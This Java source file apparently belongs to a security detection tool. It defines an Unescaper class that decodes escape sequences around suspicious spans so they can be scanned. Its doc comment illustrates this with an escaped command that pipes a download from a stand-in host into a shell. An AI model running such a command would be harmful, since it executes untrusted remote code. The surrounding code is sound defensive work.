package clawsec.detect.decode;

/**
 * Reads a text without its escape sequences, where it has some: from a little before the first one
 * until there was none for a while. Each such stretch is a text of its own.
 *
 * <pre>{@code
 * source    ... {"cmd":"curl https:\/\/e.example \u007c sh"} ........................
 *          └─ LOOK_BACK_BYTES ─┘                        └─ FOLLOW_BYTES ─┘
 * stretch   ... {"cmd":"curl https://e.example | sh"} ................
 * }</pre>
 *
 * <p>What is given depends on the text, not on the pieces it comes in. Confined to its scan.
 */
public final class Unescaper {
    /** Bytes given before the first escape sequence of a stretch. */
    public static final int LOOK_BACK_BYTES = 128;

    /** A stretch ends after that many bytes without an escape sequence. */
    public static final int FOLLOW_BYTES = 128;

    private static final int LONG_LOOK_BACK_BYTES = 384;

    /**
     * Where only spellings were undone, such as capital letters, a longer stretch ends at a line
     * break: with a capital in each sentence a text would be one stretch.
     */
    static final int MOST_SPELLING_BYTES = 2048;

    private final Sink sink;
    private final int lookBackBytes;
    private final int followBytes;
    private final boolean readsQuotedPrintable;
    private final Escape escape = new Escape();
    private long place;
    private boolean isOpen;

    /** Where the stretch ends if no escape sequence comes before. */
    private long stretchEnd;

    private long stretchStart;
    private boolean isOfSpellings;

    /** Where the last stretch ended at a line break. */
    private long lineEnd;

    /** Takes the stretches. */
    public interface Sink {
        /**
         * A stretch begins.
         *
         * @param isCut whether the source goes on to the left
         */
        void beginStretch(boolean isCut);

        /** Bytes as they are in the source. */
        void copied(byte[] text, int from, int to);

        /**
         * An escape sequence of the source.
         *
         * @param from its place there
         * @param to the place after it
         * @param isGlued whether its last byte could be one of a word
         */
        void unescaped(Escape escape, long from, long to, boolean isGlued);

        void endStretch();
    }

    public Unescaper(Sink sink) {
        this(sink, LOOK_BACK_BYTES, FOLLOW_BYTES, true);
    }

    private Unescaper(Sink sink, int lookBackBytes, int followBytes, boolean readsQuotedPrintable) {
        this.sink = sink;
        this.lookBackBytes = lookBackBytes;
        this.followBytes = followBytes;
        this.readsQuotedPrintable = readsQuotedPrintable;
    }

    /**
     * For a short text, of which all around an escape sequence is given.
     *
     * @param readsQuotedPrintable whether {@code =41} counts, which stands in other text as well
     */
    public static Unescaper ofShortText(Sink sink, boolean readsQuotedPrintable) {
        return new Unescaper(
                sink, LONG_LOOK_BACK_BYTES, History.LOOK_BACK_BYTES * 2, readsQuotedPrintable);
    }

    /**
     * Reads what is new of a text.
     *
     * @param isEnd whether the text ends there; what is read next is another one
     */
    public void read(History history, boolean isEnd) {
        byte[] text = history.bytes();
        int end = history.length();
        int at = history.index(place);
        int given = at;
        while (true) {
            int limit = isOpen ? (int) Math.min(end, stretchEnd - history.base()) : end;
            int before = at;
            at = history.signs().nextEscape(at, limit);
            int line = isOpen && isOfSpellings ? lineBreak(history, before, at) : at;
            if (line < at) {
                at = line + 1;
                copy(text, given, at);
                given = at;
                lineEnd = history.base() + at;
                sink.endStretch();
                isOpen = false;
            } else if (at < limit) {
                int length = read(history, at, end, isEnd);
                if (length == Escape.UNDECIDED) {
                    break;
                }
                if (length == Escape.NONE) {
                    at++;
                    continue;
                }
                if (!isOpen) {
                    given = begin(history, at);
                }
                copy(text, given, at);
                long from = history.base() + at;
                isOfSpellings &= escape.isSpelling();
                at += length;
                given = at;
                sink.unescaped(escape, from, from + length, Alphabet.isMember(text[at - 1]));
                stretchEnd = from + length + followBytes;
            } else if (isOpen && history.base() + at >= stretchEnd) {
                copy(text, given, at);
                given = at;
                sink.endStretch();
                isOpen = false;
            } else {
                break;
            }
        }
        if (isOpen) {
            copy(text, given, at);
        }
        place = history.base() + at;
        if (isEnd) {
            end();
        }
    }

    private int read(History history, int at, int end, boolean isEnd) {
        if (history.bytes()[at] == '+' && history.isForm(at)) {
            escape.start(Notation.FORM);
            escape.add(' ');
            return 1;
        }
        if (history.bytes()[at] == '=' && !readsQuotedPrintable) {
            return Escape.NONE;
        }
        return Escapes.read(history.bytes(), at, end, isEnd, escape);
    }

    private void end() {
        if (isOpen) {
            sink.endStretch();
        }
        isOpen = false;
        place = 0;
        lineEnd = 0;
    }

    /** The index of a line break at which the stretch ends; {@code to} for none. */
    private int lineBreak(History history, int from, int to) {
        byte[] text = history.bytes();
        int at = Math.max(from, history.index(stretchStart + MOST_SPELLING_BYTES));
        while (at < to && text[at] != '\n') {
            at++;
        }
        return Math.min(at, to);
    }

    /** Begins a stretch at the start of a word, unless the word is too long. */
    private int begin(History history, int at) {
        int earliest = Math.max(Math.max(0, history.index(lineEnd)), at - lookBackBytes);
        boolean isCut = history.base() + earliest > lineEnd;
        int from = isCut ? wordEnd(history.bytes(), earliest, at) : earliest;
        isOpen = true;
        isOfSpellings = true;
        stretchStart = history.base() + at;
        boolean isWordCut = isCut && from == at;
        sink.beginStretch(isWordCut);
        return isWordCut ? earliest : from;
    }

    /** Where the word ends that an index may be in; {@code to} if it goes on up to there. */
    public static int wordEnd(byte[] text, int from, int to) {
        int at = from;
        while (at < to && Alphabet.isMember(text[at])) {
            at++;
        }
        return at;
    }

    private void copy(byte[] text, int from, int to) {
        if (from < to) {
            sink.copied(text, from, to);
        }
    }
}
